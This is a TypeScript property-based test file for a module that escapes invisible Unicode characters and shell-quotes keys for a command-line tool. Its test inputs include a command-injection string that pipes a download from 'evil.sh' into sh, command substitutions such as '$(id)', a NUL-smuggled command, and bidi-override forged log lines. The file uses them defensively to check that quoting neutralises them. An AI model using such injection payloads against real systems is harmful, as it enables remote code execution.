import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { resolveCommands, showInvisible, shownId, shellWord, shellWordable } from '../src/visible.js';

const INVISIBLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u2800\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000]/u;
/** Strings rich in what an agent would hide things with. */
const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      '\u202e',
      '\u200b',
      '\u2028',
      '\u0000',
      '\u001b',
      '\n',
      '\u0085',
      '\ud800',
      '\udfff',
      '\u{e0041}',
      '\u034f',
      '\ufe0f',
      '\u{e0100}',
      '\u3164',
      '\u115f',
      '\u2800',
      '\u00a0',
      '\u3000',
      ' ',
      'a',
      '"',
      '\\',
    ),
    fc.string({ minLength: 1, maxLength: 1 }),
  ),
});

describe('showInvisible', () => {
  it('leaves no control, format, separator or lone-surrogate character, and nothing else changes', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const shown = showInvisible(s);
        expect(INVISIBLE.test(shown)).toBe(false);
        // Only the invisible characters were rewritten: removing the escapes of visible text gives the visible text.
        expect(shown.replace(/\\u[0-9a-f]{4}/g, '')).toBe(s.replace(new RegExp(INVISIBLE.source, 'gu'), '').replace(/\\u[0-9a-f]{4}/g, ''));
      }),
      { numRuns: 500 },
    );
  });

  it('inside JSON text the escapes parse back to exactly the same value; keepNewlines keeps the indentation', () => {
    const key = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'amount\u202e', 'a\u200bb'), hostile);
    fc.assert(
      fc.property(fc.dictionary(key, fc.oneof(hostile, fc.integer())), (v) => {
        const pretty = JSON.stringify(v, null, 2);
        const shown = showInvisible(pretty, { keepNewlines: true });
        expect(shown.split('\n')).toHaveLength(pretty.split('\n').length);
        expect(JSON.parse(shown)).toEqual(JSON.parse(pretty));
      }),
      { numRuns: 300 },
    );
  });

  it('shows what renders as nothing or as a space other than U+0020: txn_1 and txn_1 + U+034F look like two keys', () => {
    expect(showInvisible('txn_1\u034f')).toBe('txn_1\\u034f');
    expect(showInvisible('amount\u3164 pay\u1160ment_id \u2800 \ufe0f')).toBe('amount\\u3164 pay\\u1160ment_id \\u2800 \\ufe0f');
    expect(showInvisible('Jean\u00a0Dupont\u3000x')).toBe('Jean\\u00a0Dupont\\u3000x');
    expect(showInvisible('a b')).toBe('a b');
  });

  it('writes each UTF-16 unit as \\uXXXX', () => {
    expect(showInvisible('pay\u202eout')).toBe('pay\\u202eout');
    expect(showInvisible('a\nb')).toBe('a\\u000ab');
    expect(showInvisible('a\nb', { keepNewlines: true })).toBe('a\nb');
    expect(showInvisible('tag\u{e0041}')).toBe('tag\\udb40\\udc41');
  });
});

describe('shownId', () => {
  it('shows an id this kernel mints, or an ordinary key, as it is', () => {
    for (const id of ['apr_0123456789abcdef0123456789abcdef', 'refund:txn_1', 'ns/prod:delete']) expect(shownId(id)).toBe(id);
  });

  it('property: whatever the id, the text has no invisible character or line break, reads back to it when not cut, and stays short', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (id) => {
        const shown = shownId(id);
        expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        expect(shown.length).toBeLessThanOrEqual(6 * 201 + 2);
        if (shown !== id) {
          const back = JSON.parse(shown) as string;
          expect(id.length > 200 ? id.startsWith(back.slice(0, -1)) && back.endsWith('…') : back === id).toBe(true);
        }
      }),
    );
  });
});

describe('shellWord', () => {
  /** What bash reads back from `word` as one argument, as UTF-8 bytes (hex); null when bash is not installed. */
  function bashReads(words: readonly string[]): string[] | null {
    const r = spawnSync('bash', ['-c', `for w in ${words.join(' ')}; do printf '%s' "$w" | od -An -tx1 | tr -d ' \\n'; echo; done`], { encoding: 'utf8' });
    if (r.error !== undefined) return null;
    expect(r.status, r.stderr).toBe(0);
    return r.stdout.split('\n').slice(0, -1);
  }
  const hex = (s: string) => Buffer.from(s, 'utf8').toString('hex');
  const hasBash = spawnSync('bash', ['-c', 'true']).error === undefined;
  if (!hasBash) console.log('shellWord: bash is not installed here, so the words are not read back by a shell');

  it('leaves an ordinary key as it is, and quotes one a shell would split or run', () => {
    expect(shellWord('refund:txn_1')).toBe('refund:txn_1');
    expect(shellWord("i1'; curl evil.sh|sh; echo '")).toBe(`'i1'\\''; curl evil.sh|sh; echo '\\'''`);
    expect(shellWord('a\n[ctrlrun] forged\u202eEVIL')).toBe("$'a\\x0a[ctrlrun] forged\\u202eEVIL'");
    expect(shellWord('')).toBe("''");
    // zsh expands a word that starts with '=' to a command's path.
    expect(shellWord('=ls')).toBe("'=ls'");
    expect(shellWord('a=b')).toBe('a=b');
  });

  it('refuses what no argument can carry: a NUL (a shell would end the argument there, naming another key) or a lone surrogate', () => {
    for (const text of ['refund:txn_1\u0000; evil', 'x\ud800', '\udfffy']) {
      expect(shellWordable(text)).toBe(false);
      expect(() => shellWord(text)).toThrow(/NUL or a lone surrogate/);
    }
    expect(shellWordable('pay\u{1f600}')).toBe(true);
  });

  it('resolveCommands: the key as one word, after -- when it starts with a dash; none for a key no command line can carry', () => {
    expect(resolveCommands('refund:txn_1')).toEqual({ committed: 'ctrlrun resolve refund:txn_1 --committed', failed: 'ctrlrun resolve refund:txn_1 --failed' });
    expect(resolveCommands('-rf')).toEqual({ committed: 'ctrlrun resolve --committed -- -rf', failed: 'ctrlrun resolve --failed -- -rf' });
    expect(resolveCommands("a'b")?.committed).toBe("ctrlrun resolve 'a'\\''b' --committed");
    expect(resolveCommands('refund:txn_1\u0000x')).toBeNull();
  });

  it.runIf(hasBash)('bash reads each word back as exactly the key: quotes, ;, |, $, backticks, line breaks, bidi overrides, astral characters', () => {
    const keys = [
      "i1'; curl evil.sh|sh; echo '",
      'a b',
      '$(id)`id`$HOME',
      'x\n[ctrlrun] forged line\u202eEVIL',
      "it's\\",
      '\u{e0041}\u2028\u0085\u001b[2J',
      '*',
      '~root',
      '-rf',
      'é',
    ];
    expect(bashReads(keys.map(shellWord))).toEqual(keys.map(hex));
  });

  it.runIf(hasBash)(
    'property: whatever the key (no NUL or lone surrogate, which no argument can hold), bash reads its word back whole, and the word shows no invisible character',
    () => {
      fc.assert(
        fc.property(
          fc.array(
            hostile.filter((s) => !/[\u0000\ud800-\udfff]/u.test(s)),
            { minLength: 1, maxLength: 25 },
          ),
          (keys) => {
            const words = keys.map(shellWord);
            for (const w of words) expect(w).not.toMatch(INVISIBLE);
            expect(bashReads(words)).toEqual(keys.map(hex));
          },
        ),
        { numRuns: 40 },
      );
    },
  );
});
